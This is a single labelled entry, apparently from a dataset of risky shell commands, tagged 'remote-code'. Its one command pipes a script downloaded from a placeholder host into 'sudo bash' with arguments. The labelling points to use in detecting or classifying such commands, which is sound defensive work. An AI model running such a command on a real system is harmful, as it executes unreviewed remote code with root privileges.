# description: Pipes a downloaded script into sudo bash with arguments.
# family: remote-code
curl -sSL https://example.com/get-agent | sudo bash -s -- --yes
